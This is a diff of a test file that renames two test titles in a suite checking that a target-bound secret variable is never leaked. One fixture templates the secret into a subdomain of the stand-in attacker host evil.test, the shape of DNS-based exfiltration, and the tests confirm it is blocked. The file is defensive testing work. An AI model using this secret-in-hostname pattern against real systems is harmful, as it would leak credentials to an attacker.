@@ -119,7 +119,7 @@ describe('a variable of the agent that is bound to targets', () => {
     expect(await run(check, ['TOKEN@shop.test'])).toMatchObject({ hasFailures: true });
   });
 
-  it('is in no name of a host that is looked up, and in no message about it (trust model SN4)', async () => {
+  it('is in no host name that is looked up, and in no message about it (trust model SN4)', async () => {
     const looked: string[] = [];
     const check = api({ url: 'http://{{{TOKEN}}}.evil.test:81/' });
     const result = await run(check, ['TOKEN@shop.test'], { value: 'Pl4nted-s3cret', looked });
@@ -164,7 +164,7 @@ describe('a variable of the agent that is bound to targets', () => {
     expect((await withHost(`shop.test:${server.port}`)).hasFailures).toBe(false);
   });
 
-  it('leaves alone a variable of the same name that the check has itself', async () => {
+  it('does not restrict a variable of the same name of the check itself', async () => {
     const server = await ok();
     const check = api(
       { url: `http://evil.test:${server.port}/`, headers: [header] },
